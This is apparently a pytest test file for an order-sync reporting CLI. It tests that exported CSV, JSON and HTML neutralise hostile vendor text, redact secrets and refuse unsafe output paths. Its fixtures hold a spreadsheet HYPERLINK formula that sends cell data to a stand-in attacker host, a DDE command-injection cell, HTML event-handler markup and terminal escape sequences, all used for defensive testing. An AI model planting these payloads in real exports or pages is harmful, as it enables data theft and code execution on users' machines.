"""``ordersync report`` against a hostile vendor and a careless operator: vendor text that is
a spreadsheet formula or markup carrying a configured secret, ``--out`` aimed at the ledger,
and ``--since`` values beyond any calendar. Real simulators, the real CLI."""

from __future__ import annotations

import asyncio
import csv
import html
import io
import json
import os
import stat
import time
import unicodedata

from ordersync.report.text import ROWS_PER_KIND, render_csv
from ordersync_adapters.fotoware.simulator import FotowareSimulator
from tests.cli_support import SECRET_ENV, SIM_SECRET, arun_cli, fotoware_toml, one_error_line
from tests.conftest import FakeClock
from tests.report_support import DAY, ENV, report_site

SECRET = "pw&<'\"key-9f31"       # the Pwinty key as the report's environment holds it
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def test_hostile_vendor_text_is_inert_and_secrets_are_redacted_in_every_format(tmp_path):
    clock = FakeClock(time.time() - 2 * DAY)
    async with report_site(tmp_path, clock) as site:
        [order, *_] = [i for i in site.fw.order_ids()
                       if site.fw.get_order(i)["state"] == "pending"]
        email = f"{FORMULA}<b onmouseover='x'>{SECRET}</b>"
        site.fw.touch(order, owner={**site.fw.get_order(order)["owner"], "email": email})
        clock.now = time.time()
        await site.sync()
        env = {**ENV, "RPT_PWINTY_KEY": SECRET}   # report talks to no vendor: any value will do
        base = ("--config", str(site.config_path), "report")
        outputs = await asyncio.gather(*(arun_cli(*base, *extra, env=env) for extra in (
            (), ("--format", "csv"), ("--format", "json"), ("--json",),
            ("--format", "html"))))
    for result in outputs:
        assert result.returncode == 0 and result.stderr == "", result
        for spelling in (SECRET, html.escape(SECRET), json.dumps(SECRET)[1:-1],
                         SECRET.replace('"', '""'), "key-9f31"):
            assert spelling not in result.stdout, (spelling, result.stdout[:2000])
    table, as_csv, as_json, wrapped, page = (r.stdout for r in outputs)
    [row] = [r for r in csv.DictReader(io.StringIO(as_csv)) if r["key"] == f"stuck:fw:{order}"]
    assert FORMULA in row["reason"]
    stuck = [e for e in json.loads(as_json)["exceptions"] if e["key"] == f"stuck:fw:{order}"]
    assert FORMULA in stuck[0]["reason"]
    assert all("[redacted]</b>" in text for text in (as_csv, as_json, wrapped))
    assert "<b onmouseover" not in page and "[redacted]&lt;/b&gt;" in page
    assert "<b onmouseover" not in page and "&lt;b onmouseover=&#x27;x&#x27;&gt;" in page


def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote():
    hostile = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    report = {"vendors": [{"vendor": "v", "freshness_s": 1.5}], "exceptions": [
        {"vendor": "v", "kind": "problem", "key": f"problem:v:{i}", "order": text,
         "action": None, "status": "new", "age_s": 2.0, "reason": text,
         "first_seen": "2026-11-30T06:00:00.000Z", "last_seen": "2026-11-30T06:00:00.000Z",
         "resolved": None} for i, text in enumerate(hostile)]}
    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
    assert [r["reason"] for r in rows] == ["'" + text for text in hostile]
    assert [r["order"] for r in rows] == ["'" + text for text in hostile]
    assert {r["age_s"] for r in rows} == {"2.0"} and {r["freshness_s"] for r in rows} == {"1.5"}


async def test_out_never_replaces_the_ledger(tmp_path, clock):
    async with report_site(tmp_path, clock) as site:
        ledger = site.config.ledger_path
        before = ledger.read_bytes()
        link = tmp_path / "link.db"
        link.symlink_to(ledger)
        base = ("--config", str(site.config_path), "report")
        itself, via_link, relative, wal = await asyncio.gather(
            arun_cli(*base, "--out", str(ledger), env=ENV),
            arun_cli(*base, "--out", str(link), env=ENV),
            arun_cli(*base, "--out", os.path.relpath(ledger), env=ENV),
            arun_cli(*base, "--out", f"{ledger}-wal", env=ENV))
        for result in (itself, via_link, relative, wal):
            one_error_line(result, 2, "--out ", "the ledger")
        assert ledger.read_bytes()[:100] == before[:100] and link.is_symlink()
        assert site.report()["vendors"]   # still a ledger


async def test_since_beyond_the_calendar_or_in_the_future_is_one_line(tmp_path, clock):
    async with report_site(tmp_path, clock) as site:
        base = ("--config", str(site.config_path), "report")
        results = await asyncio.gather(*(arun_cli(*base, "--since", when, env=ENV) for when in (
            "99999999999w", "9" * 400 + "h", "9999-12-31T23:59:59-14:00",
            "0001-01-01T00:00:00+14:00", "2999-01-01T00:00:00Z")))
        zero = await arun_cli(*base, "--since", "0h", "--format", "json", env=ENV)
    for result in results:
        one_error_line(result, 2, "--since: ")
    assert zero.returncode == 0 and json.loads(zero.stdout)["counts"]["new"] == 0


async def test_the_table_fits_80_terminal_columns_with_wide_and_combining_vendor_text(tmp_path):
    clock = FakeClock(time.time() - 2 * DAY)
    async with report_site(tmp_path, clock) as site:
        pending = [i for i in site.fw.order_ids() if site.fw.get_order(i)["state"] == "pending"]
        for order, email in zip(pending, ("注文者" * 40 + "@example.jp",
                                          "e\u0301" * 90 + "@example.com",
                                          "\u202eevil\x1b[2J" + "Ｗ" * 60), strict=False):
            site.fw.touch(order, owner={**site.fw.get_order(order)["owner"], "email": email})
        for order in pending[3:]:      # only the three planted orders wait (and are stuck)
            site.fw.set_state(order, "approved")
        clock.now = time.time()
        await site.sync()
        table = await arun_cli("--config", str(site.config_path), "report", env=ENV)
    assert table.returncode == 0 and table.stderr == "", table

    def columns(line: str) -> int:
        return sum(0 if unicodedata.combining(c) else
                   2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in line)

    stuck = [line for line in table.stdout.splitlines() if line.startswith("stuck")]
    assert len(stuck) >= 3 and "注" in table.stdout and "e\u0301" in table.stdout
    assert "\x1b" not in table.stdout and "\u202e" not in table.stdout
    assert max(columns(line) for line in table.stdout.splitlines()) <= 80, table.stdout
    assert all(line.endswith("…") for line in stuck if "注" in line)


async def test_out_writes_into_a_pipe_or_device_and_never_replaces_it(tmp_path, clock):
    fifo, full = tmp_path / "report.fifo", tmp_path / "full"
    os.mkfifo(fifo)
    full.symlink_to("/dev/full")
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)   # so the report's open() returns
    try:
        async with report_site(tmp_path, clock) as site:
            base = ("--config", str(site.config_path), "report")
            piped = await arun_cli(*base, "--out", str(fifo), env=ENV)
            device = await arun_cli(*base, "--out", str(full), env=ENV)
        received = os.read(reader, 1 << 16).decode()
    finally:
        os.close(reader)
    assert piped.returncode == 0 and piped.stderr == "", piped
    assert received.startswith("ordersync report at ") and "VENDORS (4)" in received
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    one_error_line(device, 4, f"--out {full}: cannot write the report there: No space left")
    assert full.is_symlink() and stat.S_ISCHR(full.stat().st_mode)
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


async def test_a_huge_report_shows_each_kind_bounded_and_exports_every_row(tmp_path,
                                                                          write_config):
    sim = FotowareSimulator(orders=1000, client_secret=SIM_SECRET)   # ~290 pending
    try:
        path = write_config(fotoware_toml(await sim.start(), tmp_path / "ledger.db",
                                          name="fw") + "\n[report]\nstuck_after_s = 0.001\n")
        env = {SECRET_ENV: SIM_SECRET}
        synced = await arun_cli("--config", str(path), "sync", "--once", env=env)
    finally:
        await sim.stop()
    assert synced.returncode == 0, synced
    base = ("--config", str(path), "report")
    table, page, as_json, as_csv = await asyncio.gather(*(arun_cli(*base, *extra, env=env)
        for extra in ((), ("--format", "html"), ("--format", "json"), ("--format", "csv"))))
    stuck = [e for e in json.loads(as_json.stdout)["exceptions"] if e["kind"] == "stuck"]
    more = f"… and {len(stuck) - ROWS_PER_KIND} more stuck (every row: --format csv or json)"
    assert len(stuck) > ROWS_PER_KIND + 100
    lines = table.stdout.splitlines()
    assert sum(line.startswith("stuck ") for line in lines) == ROWS_PER_KIND
    assert f"  {more}" in lines and max(len(line) for line in lines) <= 80
    assert page.stdout.count("<td>stuck</td>") == ROWS_PER_KIND and more in page.stdout
    assert sum(row["kind"] == "stuck" for row in csv.DictReader(
        io.StringIO(as_csv.stdout))) == len(stuck)
